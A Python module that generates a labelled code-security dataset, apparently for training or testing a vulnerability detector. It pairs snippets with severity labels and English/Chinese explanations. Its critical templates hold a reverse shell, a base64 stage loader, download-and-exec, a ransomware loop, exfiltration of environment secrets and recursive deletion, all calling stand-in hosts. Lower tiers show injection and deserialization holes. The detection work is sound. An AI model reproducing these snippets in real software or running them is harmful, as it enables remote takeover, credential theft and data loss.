"""Python: shell calls with user input, eval/exec of input or decoded payloads, pickle and unsafe
yaml.load, socket reverse shells, file-encrypting loops, secret exfiltration; weak crypto and TLS;
and benign look-alikes (list-form subprocess, ast.literal_eval, yaml.safe_load, json, encrypting a
string, a socket health check)."""

from __future__ import annotations

import base64

from fwyy_ollama.dataset.catalog import Category, Params, Template
from fwyy_ollama.report import Label

POOL = {
    "src": (
        'request.args.get("host")',
        'request.form["target"]',
        'input("Host: ")',
        "sys.argv[1]",
        'request.json["name"]',
        'request.args["q"]',
        'os.environ["TARGET"]',
    ),
    "tool": ("ping -c 1", "nslookup", "dig", "host", "traceroute", "whois"),
    "tool_list": ('"ping", "-c", "1"', '"nslookup"', '"dig", "+short"', '"host"', '"whois"'),
    "v_a": ("host", "target", "addr", "dest", "hostname", "h"),
    "v_data": ("data", "payload", "blob", "body", "raw", "buf"),
    "v_f": ("fh", "f", "stream", "fp"),
    "v_key": ("key", "k", "secret", "fkey"),
    "v_s": ("s", "sock", "conn", "client"),
    "v_p": ("p", "path", "item", "entry"),
    "v_o": ("obj", "result", "state", "session"),
    "v_e": ("expr", "formula", "code", "q"),
    "v_t": ("token", "reset_code", "otp", "nonce"),
    "v_pw": ("password", "pw", "passwd", "secret_pw"),
    "v_u": ("user", "username", "login", "uid"),
    "v_d": ("env", "creds", "loot", "found"),
    "cfg": ("config.yaml", "settings.yml", "app/config.yaml", "/etc/app/conf.yml"),
    "model": ("model.pkl", "cache.pkl", "features.pickle", "state.pkl"),
    "ip": ("10.0.0.5", "10.10.14.3", "192.168.56.101", "203.0.113.9", "198.51.100.23"),
    "port": ("4444", "1337", "9001", "8080", "443", "53"),
    "host": ("evil.example", "attacker.test", "203.0.113.9", "c2.invalid", "pypi-mirror.test"),
    "good": ("api.github.com", "pypi.org", "example.com", "db.internal", "localhost"),
    "word": ("hello", "report", "invoice 42", "draft", "notes"),
    "url": ("https://internal.example/api", "https://10.0.0.8/health", "https://api.partner.test/v1"),
    "root": ("/home", "/", "/srv", "/mnt/share", "C:/Users"),
    "stage": ("stage2.py", "p.py", "update", "x"),
    "ck": ("session", "prefs", "cart", "state"),
    "base": ("/srv/files", "/var/www/uploads", "/data/reports", "static"),
    "n": ("6", "8", "10", "12"),
    "fixed": ("clear", "ls -l", "date", "uptime", "whoami", "df -h", "free -m", "hostname"),
    "secret": ("AKIAIOSFODNN7EXAMPLE", "sk_live_51Hx9aZ", "ghp_16C7e42F292c6912E7710c8", "xoxb-2948-secret"),
}

SUBJECTS = {
    "en": ("This Python code", "This Python snippet"),
    "zh": ("这段 Python 代码", "这段 Python 片段"),
}


def _b64_stage(params: Params) -> Params:
    code = f"import urllib.request;exec(urllib.request.urlopen('http://{params['host']}/{params['stage']}').read())"
    return {"b64": base64.b64encode(code.encode()).decode()}


def _b64_text(params: Params) -> Params:
    return {"b64": base64.b64encode(params["word"].encode()).decode()}


T = Template
S = Label.SAFE
L = Label.LOW
M = Label.MEDIUM
H = Label.HIGH
C = Label.CRITICAL

TEMPLATES = (
    # ------------------------------------------------------------------ safe look-alikes
    T(
        "py.subprocess_list",
        "python",
        S,
        "{v_a} = {src}\nsubprocess.run([{tool_list}, {v_a}], check=True, timeout=10)",
        (
            "passes `{v_a}` (from `{src}`) as its own list element to subprocess without `shell=True`, so shell "
            "metacharacters in it are never interpreted.",
            "None for command injection; a value starting with `-` could still be read as an option.",
            "Keep the list form; validate `{v_a}` as a hostname or IP and put `--` before it if the tool allows.",
        ),
        (
            "把 `{v_a}`（来自 `{src}`）作为独立的列表元素传给 subprocess，且没有 `shell=True`，Shell 元字符不会被解释。",
            "无命令注入风险；但以 `-` 开头的值仍可能被当作选项。",
            "保持列表形式；校验 `{v_a}` 为主机名或 IP，工具支持时在其前加 `--`。",
        ),
    ),
    T(
        "py.literal_eval",
        "python",
        S,
        "{v_data} = ast.literal_eval({src})",
        (
            "parses `{src}` with `ast.literal_eval`, which accepts only literals (numbers, strings, lists, "
            "dicts) and cannot call functions, unlike `eval`.",
            "None beyond a possible error or large memory use on huge input.",
            "Keep it; catch ValueError/SyntaxError and limit the input size.",
        ),
        (
            "用 `ast.literal_eval` 解析 `{src}`，它只接受字面量（数字、字符串、列表、字典），不能像 `eval` 那样调用函数。",
            "无，最多是超大输入导致报错或占用内存。",
            "保持现状；捕获 ValueError/SyntaxError 并限制输入大小。",
        ),
    ),
    T(
        "py.safe_load",
        "python",
        S,
        'with open("{cfg}") as {v_f}:\n    {v_o} = yaml.safe_load({v_f})',
        (
            "reads `{cfg}` with `yaml.safe_load`, which builds only plain types and never instantiates "
            "arbitrary Python objects.",
            "None.",
            "Keep safe_load; validate the loaded settings against a schema.",
        ),
        (
            "用 `yaml.safe_load` 读取 `{cfg}`，只构造基本类型，绝不会实例化任意 Python 对象。",
            "无。",
            "保持使用 safe_load；按模式校验读取到的配置。",
        ),
    ),
    T(
        "py.json_loads",
        "python",
        S,
        "{v_data} = request.get_data()\n{v_o} = json.loads({v_data})",
        (
            "decodes the request body with `json.loads`, which yields only dicts, lists, strings and numbers; "
            "unlike pickle it cannot run code.",
            "None (validate the structure before use).",
            "Keep JSON; validate fields and cap the body size.",
        ),
        (
            "用 `json.loads` 解码请求体，只会得到字典、列表、字符串和数字；不像 pickle 那样能执行代码。",
            "无（使用前校验结构即可）。",
            "保持 JSON；校验字段并限制请求体大小。",
        ),
    ),
    T(
        "py.fernet_string",
        "python",
        S,
        '{v_key} = Fernet.generate_key()\n{v_t} = Fernet({v_key}).encrypt(b"{word}")',
        (
            'encrypts the in-memory string "{word}" with a freshly generated Fernet key; it touches no files.',
            "None; just keep `{v_key}` somewhere safe or the data is lost.",
            "Store the key in a secrets manager, not next to the data.",
        ),
        (
            "用新生成的 Fernet 密钥加密内存中的字符串“{word}”，不涉及任何文件。",
            "无；只需妥善保存 `{v_key}`，否则数据无法解密。",
            "把密钥存放在密钥管理服务中，不要与数据放在一起。",
        ),
    ),
    T(
        "py.b64_print",
        "python",
        S,
        'print(base64.b64decode("{b64}").decode())',
        (
            'decodes a base64 string and prints it (it reads "{word}"); the result is shown, never executed.',
            "None.",
            "No action needed.",
        ),
        (
            "解码一段 base64 字符串并打印（内容为“{word}”），只显示，不执行。",
            "无。",
            "无需处理。",
        ),
        derive=_b64_text,
    ),
    T(
        "py.health_check",
        "python",
        S,
        '{v_s} = socket.create_connection(("{good}", {hport}), timeout=5)\n{v_s}.close()',
        (
            "opens a TCP connection to {good}:{hport} and closes it at once: a reachability check; no shell or "
            "data is attached to the socket.",
            "None.",
            "No action needed.",
        ),
        (
            "连接 {good}:{hport} 后立即关闭：只是连通性检查，套接字上没有挂接 Shell 或传输数据。",
            "无。",
            "无需处理。",
        ),
        params={"hport": ("443", "5432", "6379", "80", "22")},
    ),
    # ------------------------------------------------------------------ low
    T(
        "py.system_fixed",
        "python",
        L,
        'os.system("{fixed}")',
        (
            "runs the fixed shell command `{fixed}` with no user input, so nothing can be injected; it just "
            "shells out needlessly.",
            "Low: becomes command injection (CWE-78) if input is ever added to the string.",
            "Prefer `subprocess.run([...])` without a shell.",
        ),
        (
            "执行固定的 Shell 命令 `{fixed}`，没有用户输入，无法被注入，只是没必要地调用了 Shell。",
            "低：若以后把输入拼进字符串就会变成命令注入（CWE-78）。",
            "改用不经过 Shell 的 `subprocess.run([...])`。",
        ),
    ),
    T(
        "py.mktemp",
        "python",
        L,
        '{v_p} = tempfile.mktemp(suffix=".{ext}", dir="{tmpdir}")\nwith open({v_p}, "w") as {v_f}:\n    {v_f}.write({v_data})',
        (
            "picks a temp file name with the deprecated `tempfile.mktemp` and opens it later; another local "
            "user can create that path first.",
            "Insecure temporary file race (CWE-377): local tampering or data leak.",
            "Use `tempfile.NamedTemporaryFile` or `mkstemp`, which create the file atomically.",
        ),
        (
            "用已弃用的 `tempfile.mktemp` 生成临时文件名、稍后才打开；其他本地用户可抢先创建该路径。",
            "不安全的临时文件竞态（CWE-377）：可被本地篡改或泄露数据。",
            "改用原子创建文件的 `tempfile.NamedTemporaryFile` 或 `mkstemp`。",
        ),
        params={"ext": ("txt", "json", "csv", "log"), "tmpdir": ("/tmp", "/var/tmp", ".")},
    ),
    T(
        "py.pickle_local",
        "python",
        L,
        'with open("{model}", "rb") as {v_f}:\n    {v_o} = {loader}({v_f})',
        (
            "unpickles the local file `{model}`; fine while only trusted code writes it, but pickle runs "
            "code embedded in the file.",
            "Low: code execution if an attacker can replace `{model}` (CWE-502).",
            "Restrict write access to the file, verify a hash/signature, or switch to a data-only format.",
        ),
        (
            "反序列化本地文件 `{model}`；只要只有可信代码写入它就没问题，但 pickle 会执行文件中嵌入的代码。",
            "低：若攻击者能替换 `{model}` 则可执行代码（CWE-502）。",
            "限制文件写权限，校验哈希/签名，或改用纯数据格式。",
        ),
        params={"loader": ("pickle.load", "joblib.load", "dill.load")},
    ),
    T(
        "py.log_password",
        "python",
        L,
        'logging.{lvl}("{fmt}", {v_u}, {v_pw})',
        (
            "writes the user's password (`{v_pw}`) into the application log in clear text.",
            "Credential exposure to anyone who reads logs (CWE-532).",
            "Never log secrets; log the username and outcome only, and purge existing logs.",
        ),
        (
            "把用户密码（`{v_pw}`）以明文写入应用日志。",
            "任何能读日志的人都能拿到凭据（CWE-532）。",
            "绝不记录机密；只记录用户名和结果，并清理已有日志。",
        ),
        params={
            "lvl": ("info", "debug", "warning"),
            "fmt": ("login %s password=%s", "auth user=%s pw=%s", "%s:%s"),
        },
    ),
    T(
        "py.http_status",
        "python",
        L,
        '{v_o} = requests.get("http://{good}/{spath}", timeout=5)',
        (
            "fetches http://{good}/{spath} over plain http; the data is not secret, but the response can be "
            "altered on the way.",
            "Low: cleartext transport allows tampering with the response (CWE-319).",
            "Use https and verify certificates.",
        ),
        (
            "通过明文 http 获取 http://{good}/{spath}；数据并不机密，但响应可能在传输途中被篡改。",
            "低：明文传输使响应可被篡改（CWE-319）。",
            "改用 https 并校验证书。",
        ),
        params={"spath": ("status", "health", "version.json")},
    ),
    T(
        "py.assert_auth",
        "python",
        L,
        'assert {v_u}.is_admin, "forbidden"\n{action}({v_u})',
        (
            "guards `{action}` with `assert`; running Python with `-O` strips asserts, silently removing the "
            "admin check.",
            "Low to moderate: authorization disappears in optimized runs (CWE-617).",
            "Replace the assert with an explicit `if not ...: raise PermissionError`.",
        ),
        (
            "用 `assert` 保护 `{action}`；以 `-O` 运行 Python 会去掉 assert，管理员校验随之悄然消失。",
            "低到中：优化模式运行时授权检查失效（CWE-617）。",
            "把 assert 换成显式的 `if not ...: raise PermissionError`。",
        ),
        params={"action": ("delete_account", "export_all", "reset_password", "close_ticket", "grant_role")},
    ),
    # ------------------------------------------------------------------ medium
    T(
        "py.md5_password",
        "python",
        M,
        "{v_t} = hashlib.{algo}({v_pw}.encode()).{dig}()",
        (
            "stores passwords as unsalted MD5 digests; MD5 is fast and unsalted hashes fall to rainbow tables "
            "and GPU cracking.",
            "Weak password storage (CWE-916, CWE-328).",
            "Use a password hash such as argon2id, scrypt or bcrypt with a per-user salt.",
        ),
        (
            "用不加盐的 MD5 摘要存储密码；MD5 计算极快，不加盐的哈希可被彩虹表和 GPU 破解。",
            "弱密码存储（CWE-916、CWE-328）。",
            "使用 argon2id、scrypt 或 bcrypt 等密码哈希，并为每个用户加盐。",
        ),
        params={"algo": ("md5", "sha1"), "dig": ("hexdigest", "digest")},
    ),
    T(
        "py.http_creds",
        "python",
        M,
        '{v_o} = requests.post("http://{good}/{lpath}", data={{"user": {v_u}, "password": {v_pw}}})',
        (
            "sends the user name and password to {good} over plain http, readable by anyone on the network path.",
            "Credential exposure through cleartext transmission (CWE-319).",
            "Use https only (and HSTS); never send credentials over http.",
        ),
        (
            "通过明文 http 把用户名和密码发送到 {good}，网络路径上的任何人都能读取。",
            "明文传输导致凭据泄露（CWE-319）。",
            "只用 https（并启用 HSTS）；绝不通过 http 发送凭据。",
        ),
        params={"lpath": ("login", "api/auth", "session/new")},
    ),
    T(
        "py.verify_false",
        "python",
        M,
        '{v_o} = requests.{method}("{url}", verify=False, timeout=10)',
        (
            "calls {url} with `verify=False`, turning off TLS certificate checks, so anyone on the network "
            "path can impersonate the server.",
            "Man-in-the-middle exposure of data and credentials (CWE-295).",
            'Remove `verify=False`; pass `verify="/path/ca.pem"` for a private CA.',
        ),
        (
            "以 `verify=False` 请求 {url}，关闭了 TLS 证书校验，网络路径上的任何人都能冒充服务器。",
            "中间人攻击可窃取数据和凭据（CWE-295）。",
            '去掉 `verify=False`；私有 CA 用 `verify="/path/ca.pem"` 指定。',
        ),
        params={"method": ("get", "post", "put")},
    ),
    T(
        "py.random_token",
        "python",
        M,
        '{v_t} = "".join(random.choice(string.{alphabet}) for _ in range({n}))',
        (
            "builds a {n}-letter token with the `random` module, whose Mersenne Twister output is predictable "
            "after enough samples.",
            "Guessable reset or session tokens (CWE-338).",
            "Use `secrets.token_urlsafe()` for anything security-relevant.",
        ),
        (
            "用 `random` 模块生成 {n} 位令牌；其梅森旋转算法的输出在采样足够后可被预测。",
            "重置或会话令牌可被猜出（CWE-338）。",
            "安全相关的场景使用 `secrets.token_urlsafe()`。",
        ),
        params={"alphabet": ("ascii_letters", "digits", "ascii_lowercase", "hexdigits")},
    ),
    T(
        "py.yaml_local",
        "python",
        M,
        '{v_o} = yaml.load(open("{cfg}"), Loader=yaml.{yl})',
        (
            "loads `{cfg}` with the full `yaml.Loader`, which can construct arbitrary Python objects from tags "
            "such as `!!python/object/apply`.",
            "Code execution if the config file is attacker-writable (CWE-502).",
            "Use `yaml.safe_load`; keep config files writable by the deploy user only.",
        ),
        (
            "用完整的 `yaml.Loader` 加载 `{cfg}`，可通过 `!!python/object/apply` 等标签构造任意 Python 对象。",
            "若配置文件可被攻击者写入则可执行代码（CWE-502）。",
            "改用 `yaml.safe_load`；配置文件只允许部署用户写入。",
        ),
        params={"yl": ("Loader", "UnsafeLoader")},
    ),
    T(
        "py.hardcoded_secret",
        "python",
        M,
        '{v_key} = "{secret}"\nclient = {client}(api_key={v_key})',
        (
            "hard-codes the credential `{secret}` in source, so everyone with the code (or the git history) "
            "has it.",
            "Credential disclosure (CWE-798).",
            "Revoke and rotate the key; load it from an environment variable or a secrets manager.",
        ),
        (
            "把凭据 `{secret}` 硬编码在源码中，任何能拿到代码（或 git 历史）的人都能获取。",
            "凭据泄露（CWE-798）。",
            "吊销并轮换该密钥；改从环境变量或密钥管理服务读取。",
        ),
        params={"client": ("connect", "Client", "boto_session", "StripeClient")},
    ),
    # ------------------------------------------------------------------ high
    T(
        "py.system_input",
        "python",
        H,
        '{v_a} = {src}\nos.system("{tool} " + {v_a})',
        (
            "concatenates `{v_a}` from `{src}` into a shell command for `os.system`; input like `x; rm -rf ~` "
            "runs extra commands.",
            "OS command injection (CWE-78): arbitrary commands as the app user.",
            "Use `subprocess.run([...], shell=False)` with `{v_a}` as one argument and validate it.",
        ),
        (
            "把来自 `{src}` 的 `{v_a}` 拼接进 `os.system` 的 Shell 命令；输入 `x; rm -rf ~` 这类内容就会执行额外命令。",
            "操作系统命令注入（CWE-78）：以应用用户身份执行任意命令。",
            "使用 `subprocess.run([...], shell=False)`，把 `{v_a}` 作为单个参数并做校验。",
        ),
    ),
    T(
        "py.shell_true",
        "python",
        H,
        '{v_a} = {src}\nsubprocess.call(f"{tool} {{{v_a}}}", shell=True)',
        (
            "formats `{v_a}` from `{src}` into an f-string run with `shell=True`, so `;`, `|` or `$()` in "
            "the input execute as shell syntax.",
            "OS command injection (CWE-78).",
            "Drop `shell=True`; pass a list of arguments; validate `{v_a}`.",
        ),
        (
            "把来自 `{src}` 的 `{v_a}` 格式化进 f-string 并以 `shell=True` 执行，输入中的 `;`、`|`、`$()` 都会被当作 Shell 语法。",
            "操作系统命令注入（CWE-78）。",
            "去掉 `shell=True`；以参数列表传参；校验 `{v_a}`。",
        ),
    ),
    T(
        "py.eval_input",
        "python",
        H,
        "{v_e} = {src}\n{v_o} = eval({v_e})",
        (
            "passes `{v_e}` from `{src}` to `eval`, so input such as `__import__('os').system('id')` runs "
            "arbitrary Python.",
            "Code injection (CWE-95): full control of the process.",
            "Never eval input; use `ast.literal_eval` for literals or a real expression parser.",
        ),
        (
            "把来自 `{src}` 的 `{v_e}` 交给 `eval`，输入 `__import__('os').system('id')` 之类即可执行任意 Python。",
            "代码注入（CWE-95）：可完全控制进程。",
            "绝不对输入使用 eval；字面量用 `ast.literal_eval`，表达式用专门的解析器。",
        ),
    ),
    T(
        "py.pickle_loads",
        "python",
        H,
        "{v_data} = request.get_data()\n{v_o} = pickle.loads({v_data})",
        (
            "unpickles the raw request body; a crafted pickle calls any function (e.g. os.system) while "
            "loading.",
            "Remote code execution via insecure deserialization (CWE-502).",
            "Never unpickle untrusted data; accept JSON and validate it.",
        ),
        (
            "对原始请求体做 pickle 反序列化；精心构造的 pickle 在加载时即可调用任意函数（如 os.system）。",
            "不安全的反序列化导致远程代码执行（CWE-502）。",
            "绝不反序列化不可信数据；改收 JSON 并校验。",
        ),
    ),
    T(
        "py.pickle_cookie",
        "python",
        H,
        '{v_o} = pickle.loads(base64.b64decode(request.cookies["{ck}"]))',
        (
            "base64-decodes the `{ck}` cookie and unpickles it; the client controls cookies, so it controls "
            "which code runs during loading.",
            "Remote code execution via deserialization of a cookie (CWE-502).",
            "Store server-side sessions or signed JSON (e.g. itsdangerous) instead of pickles.",
        ),
        (
            "把 `{ck}` Cookie 做 base64 解码后反序列化；Cookie 由客户端控制，因此加载时运行什么代码也由其决定。",
            "反序列化 Cookie 导致远程代码执行（CWE-502）。",
            "改用服务端会话或签名的 JSON（如 itsdangerous），不要存 pickle。",
        ),
    ),
    T(
        "py.yaml_input",
        "python",
        H,
        "{v_o} = yaml.load(request.data, Loader=yaml.{loader})",
        (
            "parses the request body with `yaml.{loader}`, which honours `!!python/object/apply` tags and "
            "can call arbitrary functions.",
            "Remote code execution via unsafe YAML deserialization (CWE-502).",
            "Use `yaml.safe_load` for untrusted input.",
        ),
        (
            "用 `yaml.{loader}` 解析请求体，它会处理 `!!python/object/apply` 标签，可调用任意函数。",
            "不安全的 YAML 反序列化导致远程代码执行（CWE-502）。",
            "对不可信输入使用 `yaml.safe_load`。",
        ),
        params={"loader": ("Loader", "UnsafeLoader", "FullLoader")},
    ),
    T(
        "py.path_traversal",
        "python",
        H,
        '{v_a} = {src}\n{v_data} = open("{base}/" + {v_a}).read()',
        (
            "joins `{v_a}` from `{src}` onto `{base}/` without checks, so `../../etc/passwd` reads files "
            "outside that folder.",
            "Path traversal and arbitrary file read (CWE-22).",
            "Resolve the path and require it to stay under `{base}`; reject `..` and absolute paths.",
        ),
        (
            "把来自 `{src}` 的 `{v_a}` 未经检查地拼到 `{base}/` 后面，`../../etc/passwd` 即可读取目录外的文件。",
            "路径遍历与任意文件读取（CWE-22）。",
            "解析出真实路径并要求其位于 `{base}` 之内；拒绝 `..` 和绝对路径。",
        ),
    ),
    T(
        "py.flask_debug",
        "python",
        H,
        'app.run(host="0.0.0.0", port={fport}, debug=True)',
        (
            "starts Flask with `debug=True` on all interfaces (port {fport}); the Werkzeug debugger lets "
            "anyone who reaches it run Python in the browser.",
            "Remote code execution through the exposed debugger (CWE-489, CWE-94).",
            "Never enable debug outside local development; bind to 127.0.0.1; serve with gunicorn/uwsgi.",
        ),
        (
            "以 `debug=True` 在所有网卡（端口 {fport}）上启动 Flask；Werkzeug 调试器允许任何能访问者在浏览器中执行 Python。",
            "暴露的调试器导致远程代码执行（CWE-489、CWE-94）。",
            "本地开发之外绝不开启 debug；绑定 127.0.0.1；用 gunicorn/uwsgi 部署。",
        ),
        params={"fport": ("5000", "8000", "8080", "80")},
    ),
    # ------------------------------------------------------------------ critical
    T(
        "py.revshell",
        "python",
        C,
        '{v_s} = socket.socket()\n{v_s}.connect(("{ip}", {port}))\nfor fd in (0, 1, 2):\n'
        '    os.dup2({v_s}.fileno(), fd)\nsubprocess.call(["/bin/sh", "-i"])',
        (
            "connects to {ip}:{port}, duplicates the socket onto stdin, stdout and stderr, and starts "
            "`/bin/sh -i`: a reverse shell.",
            "Full remote control of the machine (CWE-506).",
            "Remove it, kill the process, block {ip}, isolate the host; restrict outbound connections.",
        ),
        (
            "连接 {ip}:{port}，把套接字复制到标准输入、输出和错误上，再启动 `/bin/sh -i`：反弹 Shell。",
            "机器被完全远程控制（CWE-506）。",
            "删除代码，结束进程，封禁 {ip}，隔离主机；限制出站连接。",
        ),
    ),
    T(
        "py.exec_b64",
        "python",
        C,
        'exec(base64.b64decode("{b64}"))',
        (
            "executes a base64-hidden payload; decoded it downloads `{stage}` from {host} and `exec`s it, a "
            "second-stage loader.",
            "Execution of attacker-controlled remote code (CWE-506, CWE-94).",
            "Remove it; block {host}; scan dependencies for obfuscated exec; review how it got in.",
        ),
        (
            "执行隐藏在 base64 中的载荷；解码后会从 {host} 下载 `{stage}` 并 `exec` 执行，是二阶段加载器。",
            "执行攻击者控制的远程代码（CWE-506、CWE-94）。",
            "删除该代码；封禁 {host}；扫描依赖中的混淆 exec；追查其来源。",
        ),
        derive=_b64_stage,
    ),
    T(
        "py.download_exec",
        "python",
        C,
        'exec(urllib.request.urlopen("http://{host}/{stage}").read())',
        (
            "downloads `{stage}` from {host} over plain http and runs it with `exec`, whatever it contains.",
            "Remote code execution controlled by that server (CWE-494, CWE-94).",
            "Remove it and block {host}; ship code as reviewed, pinned dependencies instead.",
        ),
        (
            "通过明文 http 从 {host} 下载 `{stage}` 并用 `exec` 执行，不论其内容是什么。",
            "由该服务器控制的远程代码执行（CWE-494、CWE-94）。",
            "删除并封禁 {host}；改为经过审查、版本固定的依赖。",
        ),
    ),
    T(
        "py.ransom",
        "python",
        C,
        '{v_key} = Fernet.generate_key()\nfor {v_p} in pathlib.Path("{root}").rglob("*"):\n'
        "    if {v_p}.is_file():\n        {v_p}.write_bytes(Fernet({v_key}).encrypt({v_p}.read_bytes()))\n"
        'requests.post("http://{host}/k", data={v_key})',
        (
            "encrypts every file under `{root}` in place with a new key and sends the key to {host}: "
            "ransomware behaviour.",
            "Loss of all files unless the attacker returns the key (T1486).",
            "Do not run; isolate affected hosts, block {host}, restore from offline backups.",
        ),
        (
            "用新密钥原地加密 `{root}` 下的所有文件，并把密钥发往 {host}：典型的勒索软件行为。",
            "除非攻击者交出密钥，否则所有文件丢失（T1486）。",
            "不要运行；隔离受影响主机，封禁 {host}，从离线备份恢复。",
        ),
    ),
    T(
        "py.env_exfil",
        "python",
        C,
        '{v_d} = {{k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}}\n'
        'urllib.request.urlopen("http://{host}/c", data=json.dumps({v_d}).encode())',
        (
            "collects every environment variable whose name contains KEY or TOKEN and POSTs them to {host}; "
            "typical of a malicious package install hook.",
            "Theft of cloud and CI credentials (CWE-506, CWE-200).",
            "Remove the package, rotate every exposed key, and block {host}.",
        ),
        (
            "收集名称含 KEY 或 TOKEN 的所有环境变量并 POST 到 {host}，是恶意软件包安装钩子的典型行为。",
            "云平台与 CI 凭据被盗（CWE-506、CWE-200）。",
            "移除该软件包，轮换所有暴露的密钥，封禁 {host}。",
        ),
    ),
    T(
        "py.rmtree",
        "python",
        C,
        "shutil.rmtree({target}, ignore_errors=True)",
        (
            "recursively deletes `{target}` and hides every error (`ignore_errors=True`), wiping all files the "
            "process can reach there.",
            "Destruction of data (T1485).",
            "Remove it; run services with least privilege; keep offline backups.",
        ),
        (
            "递归删除 `{target}` 并忽略所有错误（`ignore_errors=True`），清除进程能触及的全部文件。",
            "数据被销毁（T1485）。",
            "删除该代码；服务以最小权限运行；保留离线备份。",
        ),
        params={
            "target": (
                'os.path.expanduser("~")',
                '"/"',
                '"/home"',
                '"/var/lib/postgresql"',
                '"C:/Users"',
                '"/srv"',
            ),
        },
    ),
)

CATEGORY = Category("python", POOL, SUBJECTS, TEMPLATES)
